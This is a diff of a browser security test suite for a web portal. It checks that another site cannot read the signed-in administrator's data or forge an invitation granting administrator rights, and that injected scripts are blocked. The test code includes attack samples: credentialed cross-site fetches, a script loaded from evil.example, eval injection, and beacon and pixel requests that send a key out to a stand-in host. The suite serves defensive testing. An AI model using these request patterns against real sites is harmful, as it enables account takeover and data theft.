@@ -7,17 +7,22 @@ import { Person } from "../person.ts";
 import { chapter, stage } from "../stage.ts";
 
 /** A site of somebody else, that tries everything a browser lets it try. */
-async function otherSite(html: string): Promise<{ server: Server; port: number }> {
-  const server = createServer((_, answer) => answer.setHeader("content-type", "text/html").end(html));
+async function otherSite(html: string): Promise<{ server: Server; port: number; asked: string[] }> {
+  const asked: string[] = [];
+  const server = createServer((request, answer) => {
+    asked.push(request.url ?? "");
+    answer.setHeader("content-type", "text/html").end(html);
+  });
   await new Promise<void>((resolved) => server.listen(0, "127.0.0.1", resolved));
-  return { server, port: (server.address() as AddressInfo).port };
+  return { server, port: (server.address() as AddressInfo).port, asked };
 }
 
-/** Each writes what came of it into the title: what the other site could read, or that it could not. */
-const attacks = (portal: string, project: string): string => `<!doctype html><title></title><body><script>
+/** Keeps what came of each: what the other site could read, or that it could not. */
+const attacks = (portal: string, project: string): string => `<!doctype html><title>win</title><body><script>
+  window.told = [];
   const invite = JSON.stringify({ email: "mallory@example.org", roles: ["administrator"] });
   const path = "${portal}/api/projects/${project}/invitations";
-  const tell = (what) => (document.title += what + " ");
+  const tell = (what) => window.told.push(what);
   const ask = (how, init) =>
     fetch(how === "read" ? "${portal}/api/me" : path, { credentials: "include", ...init })
       .then((answer) => answer.text().then((text) => tell(how + ":" + answer.type + ":" + text.length)))
@@ -43,13 +48,15 @@ chapter("another site changes and reads nothing, though the administrator is sig
     // Once as a stranger, once as another port of the same machine, to which cookies do go.
     for (const host of ["127.0.0.1", "localhost"]) {
       const page = await admin.page.context().newPage();
+      page.setDefaultTimeout(60_000);
       const statuses: number[] = [];
       page.on("response", (answer) => {
         if (answer.url().startsWith(`${world.origin}/api/`)) statuses.push(answer.status());
       });
       await page.goto(`http://${host}:${port}/`);
-      await page.waitForFunction(() => document.title.endsWith("done "));
-      assert.equal(await page.title(), "cors:failed plain:failed read:failed read:failed frame:closed done");
+      await page.waitForFunction(() => (window as unknown as { told: string[] }).told.includes("done"));
+      const told = await page.evaluate(() => (window as unknown as { told: string[] }).told);
+      assert.deepEqual(told, ["cors:failed", "plain:failed", "read:failed", "read:failed", "frame:closed", "done"]);
       await page.getByRole("button", { name: "win" }).click();
       await page.waitForURL(`${world.origin}/**`);
       assert.match((await page.textContent("body")) ?? "", /cross_site|wrong_content_type/);
@@ -77,7 +84,17 @@ const INJECTIONS: Record<string, () => unknown> = {
     script.src = "https://evil.example/x.js";
     document.head.append(script);
   },
-  "text as code": () => (0, eval)("window.hacked = 1"),
+  // Later, because a debugger may evaluate whatever it likes while it is at it.
+  "text as code": () =>
+    new Promise((done, failed) =>
+      setTimeout(() => {
+        try {
+          done((0, eval)("window.hacked = 1"));
+        } catch (problem) {
+          failed(problem instanceof Error ? problem : new Error("stopped"));
+        }
+      }),
+    ),
   "a policy of its own": () =>
     (globalThis as unknown as Policies).trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
   "the page's policy once more": () =>
@@ -93,10 +110,6 @@ chapter("code that gets into the page does not run, and sends nothing away", asy
   world.people.pop();
   await victim.signIn();
   const { page } = victim;
-  const outside: string[] = [];
-  page.on("request", (request) => {
-    if (!request.url().startsWith(world.origin)) outside.push(request.url());
-  });
   for (const [what, inject] of Object.entries(INJECTIONS)) {
     const violations = victim.complaints.length;
     const thrown = await page.evaluate(inject).then(
@@ -107,17 +120,22 @@ chapter("code that gets into the page does not run, and sends nothing away", asy
     assert.equal(await page.evaluate(() => (window as { hacked?: number }).hacked), undefined, what);
     assert.ok(thrown !== undefined || victim.complaints.length > violations, `${what} was stopped`);
   }
-  const away = await page.evaluate(async () => {
+  const { server, port, asked } = await otherSite("");
+  const away = await page.evaluate(async (site) => {
     const image = new Image();
-    const beacon = fetch("https://evil.example/?key=1").then(() => "sent", () => "stopped");
+    const beacon = fetch(`${site}/fetched`, { mode: "no-cors" }).then(
+      () => "sent",
+      () => "stopped",
+    );
     const pixel = new Promise((done) => {
       image.onload = () => done("sent");
       image.onerror = () => done("stopped");
-      image.src = "https://evil.example/pixel";
+      image.src = `${site}/pixel`;
     });
     return Promise.all([beacon, pixel]);
-  });
-  assert.deepEqual([away, outside], [["stopped", "stopped"], []]);
+  }, `http://127.0.0.1:${port}`);
+  server.close();
+  assert.deepEqual([away, asked], [["stopped", "stopped"], []]);
   await page.context().close();
 });
 
